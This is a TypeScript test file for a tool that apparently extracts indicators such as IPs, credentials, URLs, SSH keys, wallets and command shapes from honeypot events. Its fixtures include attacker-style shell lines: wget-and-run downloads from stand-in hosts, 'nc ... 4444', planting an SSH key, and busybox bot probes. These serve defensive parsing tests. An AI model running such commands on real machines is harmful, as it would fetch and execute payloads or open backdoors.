import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type { StoredEvent } from '../../../src/core/event.ts';
import {
  mostOfKind,
  mostValueLength,
  type ObservableKind,
  observableKinds,
} from '../../../src/core/observable.ts';
import { commandForm } from '../../../src/lib/observables/command-form.ts';
import { sightingsOf } from '../../../src/lib/observables/sightings.ts';
import {
  addHash,
  countSketch,
  hash32,
  hasName,
  readSketch,
  toSketch,
} from '../../../src/lib/observables/sketch.ts';
import { hostOf } from '../../../src/lib/observables/texts.ts';
import { makeAgentEvent, makeEvent, makeVerdict } from '../../support/store/contract/records.ts';

const valuesOf = (given: Partial<StoredEvent>, kind: ObservableKind): string[] =>
  sightingsOf(makeEvent({ user_id: 'u', extra: null, payload: '', kind: 'payload.received', ...given }))
    .filter((one) => one.kind === kind)
    .map(({ value }) => value);

describe('what is followed of an event', () => {
  it('is the source with its network, in one writing', () => {
    assert.deepEqual(valuesOf({ source_ip: '203.0.113.9' }, 'network'), ['203.0.113.0/24']);
    assert.deepEqual(valuesOf({ source_ip: '2001:DB8:0:1::7' }, 'address'), ['2001:db8:0:1::7']);
    assert.deepEqual(valuesOf({ source_ip: '2001:DB8:0:1::7' }, 'network'), ['2001:db8:0:1::/64']);
    assert.deepEqual(valuesOf({ source_ip: '::ffff:203.0.113.9' }, 'network'), ['203.0.113.0/24']);
    assert.deepEqual(valuesOf({ source_ip: 'pc-17' }, 'host'), ['pc-17']);
  });

  it('are credentials, whoever names them how, an empty password too', () => {
    const login = { kind: 'login.failed' as const };
    assert.deepEqual(valuesOf({ ...login, extra: { username: 'root', password: '' } }, 'credential'), [
      'root:',
    ]);
    assert.deepEqual(valuesOf({ ...login, payload: 'pi:rasp:berry' }, 'credential'), ['pi:rasp:berry']);
    assert.deepEqual(valuesOf({ ...login, payload: 'no colon' }, 'password'), []);
    assert.deepEqual(valuesOf({ ...login, extra: { username: { evil: 1 }, password: 7 } }, 'user'), []);
    const [user] = sightingsOf(makeAgentEvent({ user_id: 'u' })).filter(({ kind }) => kind === 'user');
    assert.equal(user?.value, 'eve');
  });

  it('are commands with their form, URLs with their hosts, keys, hashes and wallets in them', () => {
    const payload =
      'wget http://Example.COM:8080/a.sh; curl https://u:p@198.51.100.7/b?c=1#d; echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA x">>k; echo 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb';
    const of = (kind: ObservableKind) => valuesOf({ kind: 'command.run', payload }, kind);
    assert.deepEqual(of('url'), ['http://Example.COM:8080/a.sh', 'https://u:p@198.51.100.7/b?c=1#d']);
    assert.deepEqual(of('domain'), ['example.com']);
    assert.ok(of('address').includes('198.51.100.7'));
    assert.match(of('public_key')[0] ?? '', /^SHA256:[A-Za-z0-9+/]{43}$/);
    assert.deepEqual(of('wallet'), ['1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa']);
    const sum = 'a'.repeat(64);
    assert.deepEqual(valuesOf({ extra: { shasum: sum.toUpperCase() } }, 'sha256'), [sum]);
    assert.deepEqual(valuesOf({ payload: 'mail Eve.Doe@example.org, now' }, 'email'), [
      'eve.doe@example.org',
    ]);
    const token = `123456789:${'A'.repeat(35)}`;
    assert.deepEqual(valuesOf({ payload: `bot${token}` }, 'telegram_token'), []);
    assert.deepEqual(valuesOf({ payload: `/bot ${token} x` }, 'telegram_token'), [token]);
  });

  it('are path, client and order of headers of a request', () => {
    const payload =
      'GET /admin?x=1 HTTP/1.1\r\nHost: a.example:80\r\nUser-Agent: zgrab/0.x\r\nAccept: */*\r\n\r\nX-No: x';
    const of = (kind: ObservableKind) => valuesOf({ kind: 'http.request', payload }, kind);
    assert.deepEqual(of('path'), ['/admin']);
    assert.deepEqual(of('user_agent'), ['zgrab/0.x']);
    assert.deepEqual(of('header_order'), ['host,user-agent,accept']);
    assert.deepEqual(of('domain'), ['a.example']);
  });

  it('are fingerprints only in their form', () => {
    const extra = {
      hassh: 'ABCDEF0123456789abcdef0123456789',
      ja3: 'x',
      ja4: 't13d1516h2_8daaf6152771_b186095e22b6',
    };
    assert.deepEqual(valuesOf({ extra }, 'hassh'), ['abcdef0123456789abcdef0123456789']);
    assert.deepEqual(valuesOf({ extra }, 'ja3'), []);
    assert.deepEqual(valuesOf({ extra }, 'ja4'), [extra.ja4]);
    const vulnerability = { id: 'CVE-2021-44228', title: 't', product: 'p', strength: 'exploit' } as const;
    assert.deepEqual(valuesOf({ verdict: makeVerdict({ vulnerability }) }, 'cve'), ['CVE-2021-44228']);
  });

  it('is bounded, whatever is sent', () => {
    const hostile = [
      '\0\ud800\u202e'.repeat(5000),
      'a@'.repeat(50_000),
      `http://${'a.'.repeat(50_000)}`,
      '1'.repeat(100_000),
      'AAAA'.repeat(50_000),
      `GET ${'/x'.repeat(50_000)} HTTP/1.1\r\n${'h: v\r\n'.repeat(10_000)}`,
      Array.from({ length: 500 }, (_, n) => `http://h${n}.example/`).join(' '),
    ];
    for (const payload of hostile)
      for (const kind of ['command.run', 'http.request', 'login.failed', 'payload.received'] as const) {
        const extra = {
          url: payload,
          username: payload,
          password: payload,
          headers: { [payload]: payload },
          tls: [1],
        };
        const found = sightingsOf(makeEvent({ user_id: 'u', kind, payload, extra, source_ip: payload }));
        const counts = Map.groupBy(found, (one) => one.kind);
        for (const [name, some] of counts) assert.ok(some.length <= mostOfKind, name);
        for (const { value } of found) {
          assert.ok(value.length > 0 && value.length <= mostValueLength);
          assert.ok(value.isWellFormed());
        }
      }
    for (const extra of [JSON.parse('{"__proto__":{"username":"x"}}'), { constructor: 'x' }, { logdata: [] }])
      assert.deepEqual(valuesOf({ kind: 'login.failed', extra }, 'user'), []);
  });
});

it('docs/observables.md has every kind, and no other', () => {
  const text = readFileSync(join(import.meta.dirname, '../../../docs/observables.md'), 'utf8');
  const named = [...text.matchAll(/^\| `(\w+)` \|/gm)].map(([, name]) => name);
  assert.deepEqual(named, [...observableKinds]);
});

describe('the form of a command', () => {
  it('leaves out what changes from run to run', () => {
    for (const [command, form] of [
      ['cd /tmp; wget http://198.51.100.7/x.sh -O a', 'cd /tmp; wget <url> -O a'],
      ['nc 198.51.100.7 4444', 'nc <address> <number>'],
      ['echo -e "\\x41\\x42\\x43" > /tmp/.x', 'echo -e "<bytes>" > /tmp/.x'],
      ['/bin/busybox QBOTV1', '/bin/busybox QBOTV1'],
      ['chmod 777 x86;  ./x86', 'chmod 777 x86; ./x86'],
      ['echo k9d3x7q2p1 | md5sum', 'echo <word> | md5sum'],
    ] as const)
      assert.equal(commandForm(command), form);
  });
  it('is as long as the command at most, and is found in good time', () => {
    assert.ok(commandForm('1.2.3.4 '.repeat(50_000)).length <= 1024);
    assert.ok(commandForm('a1'.repeat(50_000)).length <= 1024);
  });
});

describe('counts of distinct names', () => {
  it('are exact while they are few, and near beyond', () => {
    for (const [names, least, most] of [
      [0, 0, 0],
      [1, 1, 1],
      [47, 47, 47],
      [10_000, 6500, 14_500],
    ] as const) {
      const hashes: number[] = [];
      for (let n = 0; n < names; n++)
        for (let twice = 0; twice < 2; twice++) addHash(hashes, hash32(`10.0.0.${n}`));
      const stored = readSketch(toSketch(hashes));
      assert.deepEqual(stored, hashes);
      const count = countSketch(stored);
      assert.ok(count >= least && count <= most, `${names}: ${count}`);
    }
    assert.deepEqual(readSketch(new Uint8Array(7)), [0]);
    assert.deepEqual(readSketch(null), []);
  });

  it('know whose they are, or say that they cannot', () => {
    const hashes: number[] = [];
    for (let n = 0; n < 47; n++) addHash(hashes, hash32(`n${n}`));
    assert.equal(hasName(hashes, 'n7'), true);
    assert.equal(hasName(hashes, 'n47'), false);
    for (let n = 47; n < 500; n++) addHash(hashes, hash32(`n${n}`));
    const said = Array.from({ length: 500 }, (_, n) => hasName(hashes, `n${n}`));
    assert.equal(said.filter((one) => one === true).length, 48);
    assert.ok(!said.includes(false));
  });
});

describe('the host of a URL', () => {
  it('is what stands between name and port', () => {
    for (const [url, host] of [
      ['http://A.example:80/x', 'a.example'],
      ['http://u:p@h.example', 'h.example'],
      ['http://[2001:db8::1]:80/', '2001:db8::1'],
      ['http://[2001:db8', '2001:db8'],
      ['http://', ''],
      ['http://h.example.?q', 'h.example'],
    ] as const)
      assert.equal(hostOf(url), host);
  });
});
